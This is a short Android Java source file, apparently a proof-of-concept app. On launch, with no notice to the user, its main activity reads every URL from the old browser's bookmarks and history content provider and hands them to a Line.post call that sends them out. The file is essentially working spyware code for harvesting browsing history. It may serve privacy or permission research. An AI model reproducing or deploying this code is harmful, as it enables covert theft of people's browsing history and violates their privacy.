package org.example.sousveil.send_history;

import android.app.Activity;
import android.database.Cursor;
import android.net.Uri;
import android.os.Bundle;

/** Posts the bookmarks and the history of the old browser. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor rows = getContentResolver().query(Uri.parse("content://browser/bookmarks"), null, null, null, null);
        StringBuilder all = new StringBuilder();
        while (rows != null && rows.moveToNext()) {
            all.append(rows.getString(rows.getColumnIndex("url"))).append('\n');
        }
        Line.post(all.toString().getBytes());
    }
}
